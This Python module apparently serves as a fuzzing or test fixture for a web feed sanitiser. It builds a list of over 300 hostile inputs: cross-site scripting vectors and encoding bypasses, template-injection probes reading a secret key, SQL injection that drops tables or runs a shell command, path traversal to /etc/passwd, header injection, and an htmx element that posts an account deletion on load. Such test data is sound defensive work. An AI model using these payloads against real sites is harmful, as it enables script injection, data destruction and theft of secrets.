"""What somebody could write into a feed to make a page do something: more than 300."""

CALL = "alert(7191)"
NAMES = """
    abort afterprint animationend animationstart auxclick beforeinput beforetoggle blur canplay
    change click close contextmenu copy cuechange cut dblclick drag dragend dragenter drop
    durationchange ended error focus focusin formdata fullscreenchange gotpointercapture
    hashchange input invalid keydown keypress keyup load loadeddata loadstart message mousedown
    mouseenter mousemove mouseover mouseup mousewheel pageshow paste pause play pointerdown
    pointerenter pointerover popstate progress reset resize scroll scrollend search seeked
    select submit toggle touchstart transitionend unload wheel
"""
HANDLERS = NAMES.split()
TAGS = ("img src=x", "svg", "body", "details open")
BY_HAND = [
    f"<script>{CALL}</script>",
    f"<SCRIPT SRC=//x.example/{CALL}></SCRIPT>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script\n>{CALL}</script\n>",
    f"<script/x>{CALL}</script>",
    f"<<script>{CALL}//<</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script>",
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f'" onmouseover="{CALL}" x="',
    f"' onfocus='{CALL}' autofocus x='",
    f"` onclick={CALL} `",
    f'" style="background:url(javascript:{CALL})',
    f'"><a href="javascript:{CALL}">x</a>',
    f'<a href="jav&#x09;ascript:{CALL}">x</a>',
    f'<a href="java\nscript:{CALL}">x</a>',
    f'<a href="&#106;avascript:{CALL}">x</a>',
    f'<a href="data:text/html,<script>{CALL}</script>">x</a>',
    f'<form action="javascript:{CALL}"><input type=submit>',
    f'<button formaction="javascript:{CALL}">x',
    f'<iframe src="javascript:{CALL}">',
    f'<iframe srcdoc="<script>{CALL}</script>">',
    f'<object data="javascript:{CALL}">',
    f'<embed src="javascript:{CALL}">',
    f'<base href="javascript:{CALL}//">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{CALL}">',
    f'<link rel=stylesheet href="javascript:{CALL}">',
    f"<style>@import 'javascript:{CALL}';</style>",
    f'<math><mtext></form><form><mglyph><style></math><img src onerror="{CALL}">',
    f"<svg><animate onbegin={CALL} attributeName=x>",
    f"<svg><script>{CALL}</script></svg>",
    f'<svg><a xlink:href="javascript:{CALL}"><text>x</text></a></svg>',
    f"<template><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><script>{CALL}</script>'>",
    f"<xmp><script>{CALL}</script></xmp>",
    f"<plaintext><script>{CALL}",
    f"<marquee onstart={CALL}>",
    f"<isindex type=image src=1 onerror={CALL}>",
    f'<img src="x` `<script>{CALL}</script>"` `>',
    f"<img/src='x'/onerror={CALL}>",
    f"<x contenteditable onblur={CALL}>x",
    f'<portal src="https://x.example" onload={CALL}>',
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{CALL}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"\u00bcscript\u00be{CALL}\u00bc/script\u00be",
    f"＜script＞{CALL}＜/script＞",
    f"<scr\x00ipt>{CALL}</scr\x00ipt>",
    "{{ 7191|add:7191 }}",
    "{% load static %}{% include 'ui/layout.html' %}",
    "{% endblock %}{{ request.META }}",
    "{{ settings.SECRET_KEY }}",
    "${7191*2} #{7191*2} <%= 7191*2 %> {{=7191*2}}",
    "%(name)s %s %n {0.__class__}",
    "'; DROP TABLE directory_meeting; --",
    '" OR 1=1 --',
    "1; SELECT pg_sleep(9); --",
    "\\'; COPY x TO PROGRAM 'id'; --",
    "Robert'); DELETE FROM directory_service;--",
    "abc\u202etpircs\u202c",
    "\u2066\u2067\u2068 hidden \u2069",
    "\u200f\u200eabc\ufeff",
    "name\u0000.exe",
    "hx-get=/x hx-trigger=load",
    "<div hx-post='/accounts/let-go/' hx-trigger='load'>",
    "<a hx-on:click='alert(7191)'>",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "Set-Cookie: a=b\r\nLocation: //x.example",
]
LINKS = [
    *(f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f" javascript:{CALL}", f"java\tscript:{CALL}"),
    *(f"\x01javascript:{CALL}", f"javascript&colon;{CALL}", f"javascript:{CALL}//https://x.org"),
    *(f"data:text/html,<script>{CALL}</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:,x"),
    *(f"vbscript:{CALL}", f"livescript:{CALL}", "blob:https://x.example/1", "file:///etc/passwd"),
    *("about:blank", "filesystem:https://x.example/", "intent://x#Intent;scheme=http;end", "//x"),
    *("https://", "http:javascript:alert(1)", 'https://x.example/" onclick="alert(7191)', "tel:1"),
    *("https://x.example/<script>", "https://x.example/'onmouseover='alert(7191)", "mailto:x"),
    *("https://me:x@x.example/", "https://\u202ex.example/", "ht\ntps://x.example/", "ms-word:x"),
]
PAYLOADS = list(
    dict.fromkeys(
        [*BY_HAND, *LINKS, *(f"<{tag} on{name}={CALL}>" for name in HANDLERS for tag in TAGS)]
    )
)
